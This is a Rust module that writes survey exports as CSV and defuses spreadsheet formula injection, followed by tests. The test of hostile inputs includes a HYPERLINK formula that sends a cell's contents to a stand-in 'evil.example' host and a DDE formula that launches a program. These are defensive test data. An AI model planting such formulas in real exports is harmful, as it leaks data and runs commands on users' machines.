//! The export as CSV (RFC 4180): a header, lines that end in CRLF, cells quoted where they must be.
//!
//! Spreadsheets run a cell that looks like a formula, whoever wrote it, and people write what they
//! like into a comment. Such a cell is defused by an apostrophe in front, after which it is text
//! (OWASP, "CSV Injection"). Undoing it is unambiguous: an apostrophe in front of what would be a
//! formula was put there, any other was not. JSON Lines has every text as it was.
//!
//! The separator is the comma. A spreadsheet that is set to another must be told so when it opens
//! the file: it would cut cells at its own separator, where no apostrophe stands.

use std::{borrow::Cow, io};

use csv::{Terminator, Writer, WriterBuilder};

use super::{COLUMNS, ExportRow};
use crate::domain::time::Millis;

/// Writes rows as CSV. It collects its output itself, so the writer below needs no buffer.
pub struct CsvExport<W: io::Write> {
    out: Writer<W>,
}

impl<W: io::Write> CsvExport<W> {
    /// Begins an export with its header.
    pub fn new(writer: W) -> io::Result<Self> {
        let mut out = WriterBuilder::new().terminator(Terminator::CRLF).from_writer(writer);
        out.write_record(COLUMNS)?;
        Ok(Self { out })
    }

    /// Writes one survey.
    ///
    /// Tags are joined by `|`; one that has a `|` itself can be told from two in JSON Lines only.
    pub fn row(&mut self, row: &ExportRow) -> io::Result<()> {
        let tags = row.tags.join("|");
        let cells: [Cow<'_, str>; COLUMNS.len()] = [
            Cow::Borrowed(&row.survey_id),
            defused(&row.account),
            defused(&row.source),
            defused(&row.conversation_id),
            defused(&row.external_id),
            defused(&row.user_id),
            Cow::Borrowed(&row.state),
            text(row.reason.as_ref()),
            Cow::Owned(row.closed_at.rfc3339()),
            time(row.due_at),
            time(row.sent_at),
            text(row.feedback_id.as_ref()),
            text(row.dm_id.as_ref()),
            Cow::Borrowed(row.kind.as_str()),
            Cow::Owned(row.question_variant_id.to_string()),
            Cow::Borrowed(if row.test { "true" } else { "false" }),
            row.score.map_or(Cow::Borrowed(""), |score| Cow::Owned(score.to_string())),
            time(row.scored_at),
            text(row.text.as_ref()),
            time(row.commented_at),
            time(row.updated_at),
            Cow::Owned(row.updates.to_string()),
            text(row.agent.as_ref()),
            text(row.team.as_ref()),
            defused(&tags),
            text(row.language.as_ref()),
        ];
        Ok(self.out.write_record(cells.iter().map(|cell| cell.as_bytes()))?)
    }

    /// Writes what is still collected, and gives the writer back. Without it the end may be lost
    /// and nobody told.
    pub fn finish(self) -> io::Result<W> {
        self.out.into_inner().map_err(csv::IntoInnerError::into_error)
    }
}

fn time(at: Option<Millis>) -> Cow<'static, str> {
    at.map_or(Cow::Borrowed(""), |at| Cow::Owned(at.rfc3339()))
}

fn text(value: Option<&String>) -> Cow<'_, str> {
    value.map_or(Cow::Borrowed(""), |value| defused(value))
}

/// The text, with an apostrophe in front where a spreadsheet might run it.
fn defused(text: &str) -> Cow<'_, str> {
    if is_formula(text) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// Whether a spreadsheet might take the text for a formula.
///
/// Full-width signs count, since some input methods write them and some spreadsheets take them;
/// and so do signs after spaces and quotes, which a spreadsheet may strip before it looks. A tab, a
/// line end or a NUL in front moves what follows into a cell of its own in some of them.
fn is_formula(text: &str) -> bool {
    let is_skipped = |c: char| {
        c.is_whitespace()
            || c.is_control()
            || matches!(c, '"' | '\'' | '“' | '”' | '‘' | '’' | '\u{200b}' | '\u{feff}')
    };
    let starts_a_formula = |c: char| matches!(c, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠');
    text.starts_with(['\t', '\r', '\n', '\0'])
        || text.chars().find(|c| !is_skipped(*c)).is_some_and(starts_a_formula)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::report::export::samples::{answered, suppressed};

    fn written(rows: &[ExportRow]) -> String {
        let mut export = CsvExport::new(Vec::new()).unwrap();
        rows.iter().for_each(|row| export.row(row).unwrap());
        String::from_utf8(export.finish().unwrap()).unwrap()
    }

    /// The cell of that column as a reader of CSV finds it in the one row.
    fn read_back(row: &ExportRow, column: &str) -> String {
        let written = written(std::slice::from_ref(row));
        let mut reader = csv::Reader::from_reader(written.as_bytes());
        let place = reader.headers().unwrap().iter().position(|name| name == column).unwrap();
        let records: Vec<_> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), 1);
        records[0][place].to_owned()
    }

    fn comment(text: &str) -> ExportRow {
        ExportRow { text: Some(text.to_owned()), ..answered() }
    }

    #[test]
    fn the_export_reads_like_this() {
        assert_eq!(
            written(&[answered(), suppressed()]),
            "survey_id,account,source,conversation_id,external_id,user_id,state,reason,closed_at,\
             due_at,sent_at,feedback_id,dm_id,type,question_variant_id,test,score,scored_at,text,\
             commented_at,updated_at,updates,agent,team,tags,language\r\n\
             s-1,acme,desk,c-42,c-42#2,343434343434,answered,,2026-11-22T07:59:58.000Z,\
             2026-11-22T08:04:58.000Z,2026-11-22T08:05:00.250Z,f-1,d-1,csat,12,false,4,\
             2026-11-22T08:06:00.000Z,\"Good, thanks\",2026-11-22T08:07:00.000Z,2026-11-22T08:07:00.000Z,2,\
             dana,billing,vip|late,es\r\n\
             s-2,acme,desk,c-43,c-43,343434343435,suppressed,throttled,2026-11-22T08:00:00.000Z,\
             ,,,,nps,0,true,,,,,,0,,,,\r\n"
        );
    }

    #[test]
    fn an_export_without_rows_still_has_its_header() {
        assert_eq!(written(&[]), format!("{}\r\n", COLUMNS.join(",")));
    }

    #[test]
    fn what_a_spreadsheet_would_run_is_text() {
        for hostile in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\rhello",
            "\nhello",
            "\0hello",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "  =1",
            "\u{a0}=1",
            "\u{feff}=1",
            "\"=1",
            "'=1",
            " \" ' =HYPERLINK(\"https://evil.example/?\"&A1,\"look\")",
            "=cmd|' /C calc'!A0",
        ] {
            assert_eq!(read_back(&comment(hostile), "text"), format!("'{hostile}"));
        }
    }

    #[test]
    fn an_honest_text_is_not_touched() {
        for honest in [
            "",
            "Good, thanks",
            "'tis fine",
            "5 - 3 = 2",
            "me@acme.example",
            "line one\nline two",
            "she said \"no\"",
            "ありがとう",
            "…",
        ] {
            assert_eq!(read_back(&comment(honest), "text"), honest);
        }
    }

    #[test]
    fn every_cell_that_others_wrote_is_defused() {
        let hostile = || "=1".to_owned();
        let row = ExportRow {
            account: hostile(),
            source: hostile(),
            conversation_id: hostile(),
            external_id: hostile(),
            user_id: hostile(),
            reason: Some(hostile()),
            feedback_id: Some(hostile()),
            dm_id: Some(hostile()),
            text: Some(hostile()),
            agent: Some(hostile()),
            team: Some(hostile()),
            tags: vec![hostile()],
            language: Some(hostile()),
            ..answered()
        };
        let written = written(&[row]);
        assert_eq!(written.matches("'=1").count(), 13);
        assert_eq!(written.matches("=1").count(), 13);
    }

    proptest! {
        #[test]
        fn a_reader_of_csv_finds_every_text_as_it_was(text in any::<String>()) {
            let found = read_back(&comment(&text), "text");
            let undone = match found.strip_prefix('\'') {
                Some(rest) if is_formula(rest) => rest,
                _ => &found,
            };
            prop_assert_eq!(undone, text);
        }

        #[test]
        fn no_cell_begins_with_a_formula(text in "[ \"'\t\r\n\0]{0,3}[-=+@＝＋－＠a]?.*") {
            let found = read_back(&comment(&text), "text");
            let first = found.chars().next().unwrap_or('a');
            prop_assert!(!"=+-@\t\r\n\0＝＋－＠".contains(first), "{found:?}");
        }
    }
}
